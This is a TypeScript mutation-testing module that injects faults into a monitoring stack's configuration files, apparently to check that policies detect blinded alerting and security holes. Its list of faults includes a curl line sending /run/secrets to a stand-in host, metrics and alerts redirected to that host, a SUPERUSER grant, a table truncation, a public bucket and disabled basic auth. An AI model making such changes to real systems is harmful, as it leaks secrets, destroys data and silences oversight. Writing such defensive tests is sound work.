import { parse, stringify } from "yaml";
import { contentHash } from "../../../../components/config-files";
import type { Resource } from "../../../../policies/evaluate";
import type { Props } from "../../../../policies/rule";
import { changed, withOne, type Mutant } from "../mutant";
import { ofTypes } from "./containers";

type Break = [file: RegExp, fault: string, change: (text: string) => string];

const yaml =
  (change: (file: Props) => void) =>
  (text: string): string => {
    const file = parse(text) as Props;
    change(file);
    return stringify(file);
  };
const rule = (change: (rule: Props, group: Props) => void) =>
  yaml(({ groups }) => change(groups[0].rules[0], groups[0]));
const replaced = (from: string | RegExp, to: string) => (text: string) => text.replace(from, to);

/** What watches, collects and shows, made blind, silent or open. */
const BREAKS: Break[] = [
  [/rules\/monitoring\.yml$/, "no Watchdog", rule((_, group) => group.rules.shift())],
  [/rules\/\w+\.yml$/, "an alert that never fires", rule((each) => (each.expr = "vector(0) > 1"))],
  [/rules\/\w+\.yml$/, "an alert after a year", rule((each) => (each.for = "1y"))],
  [/rules\/\w+\.yml$/, "an alert for nobody", rule(({ labels }) => labels && (labels.severity = "info"))],
  [/rules\/\w+\.yml$/, "rules evaluated once a day", rule((_, group) => (group.interval = "1d"))],
  [/rules\/\w+\.yml$/, "no rules", () => "groups: []\n"],
  [/prometheus\.yml$/, "rules of no file", yaml((file) => (file.rule_files = []))],
  [/prometheus\.yml$/, "alerts sent to nobody", yaml((file) => delete file.alerting)],
  [/prometheus\.yml$/, "no scrapes", yaml((file) => (file.scrape_configs = []))],
  [/prometheus\.yml$/, "a job's metrics dropped", yaml((file) => (file.scrape_configs[0].sample_limit = 1))],
  [
    /prometheus\.yml$/,
    "metrics written to a stranger",
    yaml((file) => (file.remote_write = [{ url: "https://stranger.example/write" }])),
  ],
  [/keep\.sh$/, "nothing kept", () => "#!/bin/sh\nexec prometheus\n"],
  [
    /alertmanager\.yml$/,
    "the Watchdog routed nowhere",
    yaml(
      ({ route }) =>
        (route.routes = route.routes.filter((each: Props) => !/Watchdog/.test(each.matchers[0]))),
    ),
  ],
  [
    /alertmanager\.yml$/,
    "every alert to the log",
    yaml(({ route }) => Object.assign(route, { receiver: "log", routes: [] })),
  ],
  [
    /alertmanager\.yml$/,
    "receivers that send nothing",
    yaml((file) => (file.receivers = file.receivers.map(({ name }: Props) => ({ name })))),
  ],
  [
    /alertmanager\.yml$/,
    "alerts to a stranger",
    yaml((file) => (file.receivers[0].webhook_configs = [{ url: "https://stranger.example" }])),
  ],
  [
    /alertmanager\.yml$/,
    "everything inhibited",
    yaml(
      (file) =>
        (file.inhibit_rules = [
          { source_matchers: ['alertname="Watchdog"'], target_matchers: ['severity=~".+"'] },
        ]),
    ),
  ],
  [/alertmanager\.yml$/, "told once a year", yaml(({ route }) => (route.repeat_interval = "8760h"))],
  [/remote-write\.alloy$/, "metrics pushed nowhere", () => 'prometheus.remote_write "central" { }\n'],
  [
    /remote-write\.alloy$/,
    "metrics pushed to a stranger",
    replaced(/url = .*/, 'url = "https://stranger.example"'),
  ],
  [
    /(sidecar|collector)\/?[\w-]*\.alloy$/,
    "no scrape of its service",
    replaced(/targets = \[/, "targets = [] // ["),
  ],
  [/lines\.alloy$/, "lines dropped", replaced("[loki.write.central.receiver]", "[]")],
  [/loki\.yaml$/, "logs kept for an hour", yaml((file) => (file.limits_config.retention_period = "1h"))],
  [/tempo\.yaml$/, "traces to a stranger's bucket", replaced(/backend: .*/, "backend: s3")],
  [/datasources\/tollgate\.yaml$/, "the ledger as its owner", replaced("ledger_reader", "ledger_owner")],
  [
    /datasources\/tollgate\.yaml$/,
    "a data source of a stranger",
    replaced("$PROMETHEUS_URL", "https://stranger.example"),
  ],
  [
    /dashboards\/executive-overview\.json$/,
    "a panel less",
    (text) => JSON.stringify({ ...(JSON.parse(text) as Props), panels: [] }),
  ],
  [/roles\.sql$/, "a role that may do everything", (text) => `${text}ALTER ROLE ledger_reader SUPERUSER;\n`],
  [/retention\.sql$/, "traces deleted", () => "TRUNCATE TABLE traces;\n"],
  [/make-buckets\.sh$/, "a bucket for everybody", (text) => `${text}mc anonymous set public x\n`],
  [
    /default\.conf\.template$/,
    "a way past the router",
    replaced("location / {", "location / { auth_basic off;"),
  ],
  [
    /with-secrets\.sh$/,
    "secrets sent away",
    (text) => `${text}curl -d @/run/secrets/x https://stranger.example\n`,
  ],
];

/** Faults in the files that Prometheus, Alertmanager, Grafana, the collectors and the jobs read. */
export function* rendered(base: Resource[]): Generator<Mutant> {
  const of = (what: string, resources: Resource[]): Mutant => ({ kind: "rendered file", what, resources });
  const files = ofTypes(base, /^gcp:storage\/bucketObject:/);
  for (const [pattern, fault, change] of BREAKS)
    for (const at of files.filter((each) => pattern.test(base[each]!.name))) {
      const content = base[at]!.props.content as string;
      const broken = change(content);
      if (broken !== content)
        yield of(
          `${base[at]!.name}: ${fault}`,
          changed(base, at, ({ props }) => (props.content = broken)),
        );
    }
  for (const at of files.filter((each) => /rules\/spend\.yml$/.test(base[each]!.name))) {
    const { name, props } = base[at]!;
    const beside = name.replace(/spend\.yml$/, "zz.yml");
    yield of(
      "a file beside the rules",
      withOne(base, { ...base[at]!, name: beside, props: { ...props, name: beside } }),
    );
    yield of("a folder without a file, under its own name", renamed(base, name));
  }
}

/** A stack as a program would make it that renders the folder of a file without that file: under another name, and mounted. */
function renamed(base: Resource[], file: string): Resource[] {
  const folder = /^[^/]+\/[^/]+/.exec(file)![0];
  const rest = base.filter(({ name }) => name !== file);
  const texts = rest.flatMap(({ name, props }) =>
    name.startsWith(`${folder}/`) ? [[name.slice(folder.length + 1), props.content as string]] : [],
  );
  const other = folder.replace(/[^/]+$/, contentHash(Object.fromEntries(texts)));
  return rest.map((resource) => {
    const text = JSON.stringify(resource);
    return text.includes(folder) ? (JSON.parse(text.replaceAll(folder, other)) as Resource) : resource;
  });
}
